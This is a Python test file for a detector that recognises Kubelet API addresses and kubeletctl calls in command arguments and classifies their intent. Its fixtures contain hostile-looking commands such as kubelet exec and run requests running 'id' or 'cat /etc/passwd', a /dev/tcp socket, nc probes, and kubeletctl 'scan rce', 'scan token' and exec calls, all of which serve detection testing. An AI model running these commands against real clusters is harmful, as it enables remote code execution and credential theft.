"""Addresses of Kubelets and calls of kubeletctl among arguments."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.kubelet.address import MOST, Address, addresses
from tocsin.kubelet.endpoint import Intent, endpoint, target
from tocsin.kubelet.kubeletctl import call


@pytest.mark.parametrize(
    ("arguments", "node", "port", "scheme", "path"),
    [
        (["curl", "-sk", "https://10.20.0.12:10250/pods"], "10.20.0.12", 10250, "https", "/pods"),
        (["curl", "10.20.0.13:10255/metrics"], "10.20.0.13", 10255, "", "/metrics"),
        (["x", "--url=HTTPS://node-1.example:10250"], "node-1.example", 10250, "https", ""),
        (["x", "https://[fd00::1]:10250/stats"], "[fd00::1]", 10250, "https", "/stats"),
        (["sh", "-c", "wget -q 'http://a:10255/pods' -O -"], "a", 10255, "http", "/pods"),
        (["x", "https://me:secret@n:10250/pods"], "n", 10250, "https", "/pods"),
        (["x", "wss://n:10250/exec/a/b/c?command=id"], "n", 10250, "wss", "/exec/a/b/c"),
        (["x", "https://10.0.0.[1-9]:10250/pods"], "10.0.0.[1-9]", 10250, "https", "/pods"),
        (["x", "https://$NODE:10250/pods"], "$NODE", 10250, "https", "/pods"),
        (["bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/10250"], "10.0.0.1", 10250, "", ""),
        (["openssl", "s_client", "-connect", "n:10250"], "n", 10250, "", ""),
        (["nc", "-v", "10.0.0.1", "10255"], "10.0.0.1", 10255, "", ""),
    ],
)
def test_an_address_is_taken_apart(
    arguments: list[str], node: str, port: int, scheme: str, path: str
) -> None:
    [found] = addresses(arguments)
    assert (found.node, found.port, found.scheme, found.path) == (node, port, scheme, path)


@pytest.mark.parametrize(
    "arguments",
    [
        ["curl", "http://10.20.0.12:10251/healthz"],
        ["curl", "http://10.20.0.12:102500/"],
        ["curl", "http://10.20.0.12:8080/docs/ports/10250/"],
        ["curl", "http://web:8080/docs?port=10250"],
        ["echo", "10250"],
        ["redis-cli", "host", "10250"],
        [":10250"],
        [],
    ],
)
def test_what_is_no_address_is_not_taken_for_one(arguments: list[str]) -> None:
    assert addresses(arguments) == []


def test_the_way_through_the_api_server_is_known() -> None:
    [plain] = addresses(["kubectl", "get", "--raw", "/api/v1/nodes/node-2/proxy/pods"])
    assert plain == Address("node-2", 10250, "", "/pods", "", through_api=True)
    [full] = addresses(
        ["curl", "https://k:6443/api/v1/nodes/https:node-2:10250/proxy/run/a/b/c?cmd=id"]
    )
    assert (full.node, full.port, full.through_api) == ("node-2", 10250, True)
    assert full.target.command == "id"
    assert full.endpoint.intent is Intent.EXECUTION


def test_an_address_stands_once_and_there_is_an_end() -> None:
    assert len(addresses(["https://a:10250/pods"] * 3)) == 1
    assert len(addresses([f"https://a{number}:10250/" for number in range(500)])) == MOST


def test_credentials_in_an_address_are_not_shown() -> None:
    assert "secret" not in addresses(["https://me:secret@n:10250/pods"])[0].text


@pytest.mark.parametrize(
    ("path", "intent", "guard"),
    [
        ("/pods", Intent.DISCOVERY, ("pods", "proxy")),
        ("/runningpods/", Intent.DISCOVERY, ("pods", "proxy")),
        ("/EXEC/a/b/c", Intent.EXECUTION, ("proxy",)),
        ("/run/a/b/c", Intent.EXECUTION, ("proxy",)),
        ("/attach/a/b/c", Intent.EXECUTION, ("proxy",)),
        ("/portForward/a/b", Intent.EXECUTION, ("proxy",)),
        ("/metrics/cadvisor", Intent.DISCOVERY, ("metrics",)),
        ("/stats/summary", Intent.DISCOVERY, ("stats",)),
        ("/logs/", Intent.COLLECTION, ("log",)),
        ("/containerLogs/a/b/c", Intent.COLLECTION, ("proxy",)),
        ("/checkpoint/a/b/c", Intent.COLLECTION, ("checkpoint", "proxy")),
        ("/configz", Intent.DISCOVERY, ("configz", "proxy")),
        ("/healthz", Intent.HEALTH, ("healthz", "proxy")),
        ("/debug/flags/v", Intent.CHANGE, ("proxy",)),
        ("//p%6fds", Intent.DISCOVERY, ("pods", "proxy")),
        ("", Intent.DISCOVERY, ("proxy",)),
        ("/podsx", Intent.UNKNOWN, ("proxy",)),
    ],
)
def test_a_path_has_an_intent_and_a_guard(
    path: str, intent: Intent, guard: tuple[str, ...]
) -> None:
    found = endpoint(path)
    assert (found.intent, found.guard) == (intent, guard)


def test_a_path_names_pod_container_and_command() -> None:
    assert target("/exec/shop/api-0/api", "command=cat&command=/etc/passwd&output=1") == (
        "shop",
        "api-0",
        "api",
        "cat /etc/passwd",
    )
    assert target("/run/shop/api-0/6b1e4540/api", "cmd=id") == ("shop", "api-0", "api", "id")
    assert target("/portForward/shop/api-0") == ("shop", "api-0", "", "")
    assert target("/pods") == ("", "", "", "")


@pytest.mark.parametrize(
    ("arguments", "name", "command", "intent", "nodes"),
    [
        (
            ["/tmp/kubeletctl", "scan", "--cidr", "10.20.0.0/28"],
            "",
            "scan",
            "discovery",
            ("10.20.0.0/28",),
        ),
        (["kubeletctl", "scan", "token", "-s", "n"], "", "scan token", "execution", ("n",)),
        (["kubeletctl", "--server=n", "scan", "rce"], "", "scan rce", "discovery", ("n",)),
        (["kubeletctl_linux_amd64", "pods", "-s", "n"], "", "pods", "discovery", ("n",)),
        (
            ["/dev/shm/.agent", "runningpods", "--server", "n"],
            ".agent",
            "runningpods",
            "discovery",
            ("n",),
        ),
        (["x", "exec", "id", "-p", "a", "-c", "b", "-s", "n"], "x", "exec", "execution", ("n",)),
        (["sh", "-c", "./kubeletctl run 'ls /' -s n; id"], "sh", "run", "execution", ("n",)),
        (["updater", "pods"], "kubeletctl", "pods", "discovery", ()),
    ],
)
def test_a_call_of_the_client_is_understood(
    arguments: list[str], name: str, command: str, intent: str, nodes: tuple[str, ...]
) -> None:
    found = call(arguments, name)
    assert found is not None
    assert (found.command, found.intent, found.nodes) == (command, intent, nodes)


@pytest.mark.parametrize(
    ("arguments", "name"),
    [
        (["redis-cli", "-s", "/run/redis.sock", "ping"], "redis-cli"),
        (["kubectl", "--server", "x", "exec", "-c", "a", "--pod", "b"], "kubectl"),
        (["trivy", "image", "--server", "http://t", "shop"], "trivy"),
        (["npm", "run", "build"], "npm"),
        (["chmod", "+x", "/tmp/kubeletctl"], "chmod"),
        (["wget", "https://x.example/kubeletctl_linux_amd64"], "wget"),
        ([], ""),
    ],
)
def test_other_programs_are_no_calls_of_it(arguments: list[str], name: str) -> None:
    assert call(arguments, name) is None


def test_a_call_tells_its_words_and_credentials() -> None:
    found = call(
        [
            "kubeletctl",
            "exec",
            "id",
            "-n",
            "shop",
            "-p",
            "a",
            "-c",
            "b",
            "--cert",
            "/c",
            "--key",
            "/k",
        ]
    )
    assert found is not None
    assert found.words == ("id",)
    assert found.credentials == ("/c", "/k")
    assert (found.given["namespace"], found.given["pod"]) == ("shop", "a")


@given(st.lists(st.text(alphabet=":/102505[]{}$@. \"'kubeletctl-s", max_size=60), max_size=8))
def test_any_arguments_can_be_read(arguments: list[str]) -> None:
    for found in addresses(arguments):
        assert found.port
        assert found.text
    call(arguments)
